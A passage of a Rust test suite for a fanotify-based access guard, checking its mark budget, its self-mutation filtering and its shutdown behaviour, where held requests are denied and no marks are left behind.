    let own = std::process::id();
    std::thread::sleep(Duration::from_millis(200));
    while let Ok(r) = rx.try_recv() {
        if let Report::Mutation(m) = r {
            assert_ne!(m.pid, own, "own mutation reported: {m:?}");
        }
    }
}

fn the_mark_budget_is_enforced_and_reported() {
    let mut fx = Fixture::new();
    let dir = fx.mkdir("many");
    for i in 0..10 {
        write_owned(&dir.join(format!("f{i}")), "x");
    }
    fx.start(Options {
        mark_budget: 4,
        ..Options::default()
    });
    let report = fx
        .guard()
        .set_targets(&[target(&dir, Scope::Children, Access::OPEN, 30)]);
    assert_eq!(report.marked, 4, "{report:#?}");
    assert_eq!(report.left_out, 7, "{report:#?}");
    assert_eq!(report.targets[0].left_out, 7);
    assert_eq!(fx.guard().stats().left_out, 7);
    // Files left out are still refused through their directory's mark.
    for i in 0..10 {
        assert_eq!(
            run_child(WATCHED, "read", &[&dir.join(format!("f{i}"))]),
            "ERR EPERM",
            "f{i}"
        );
    }
}

fn dropping_the_guard_answers_pending_and_leaves_no_marks() {
    let mut fx = Fixture::new();
    let secret = "sentinel-secret-drop-d00d";
    let key = fx.mkdir("home").join("key");
    write_owned(&key, secret);
    fx.decider.set(Mode::HoldWatched);
    let holds = fx.decider.holds();
    fx.start(Options::default());
    fx.protect(&[target(&key, Scope::Object, Access::OPEN, 40)]);
    let fds = fanotify_fds();
    assert_eq!(
        fds.len(),
        2,
        "the permission and the notification group: {fds:?}"
    );
    let marks: usize = fds
        .iter()
        .map(|fd| {
            let info = fd.to_string_lossy().replace("/fd/", "/fdinfo/");
            let mut s = String::new();
            File::open(info).unwrap().read_to_string(&mut s).unwrap();
            s.lines().filter(|l| l.starts_with("fanotify ino:")).count()
        })
        .sum();
    assert!(marks >= 2, "the file and its directory are marked: {marks}");

    // A held request at shutdown is answered by the fallback (Deny for the
    // watched UID), not left to the kernel (which would allow it).
    let c = child(WATCHED, "read", &[&key])
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    holds.recv_timeout(Duration::from_secs(10)).expect("a hold");
    let stats = fx.guard.take().unwrap().shutdown();
    assert_eq!(stats.shutdown_answers, 1, "{stats:?}");
    assert_eq!(stdout(&c.wait_with_output().unwrap()), "ERR EPERM");
    assert!(fanotify_fds().is_empty(), "both groups are closed");
    // Nothing is blocked any more.
    assert_eq!(run_child(WATCHED, "read", &[&key]), format!("OK {secret}"));
}
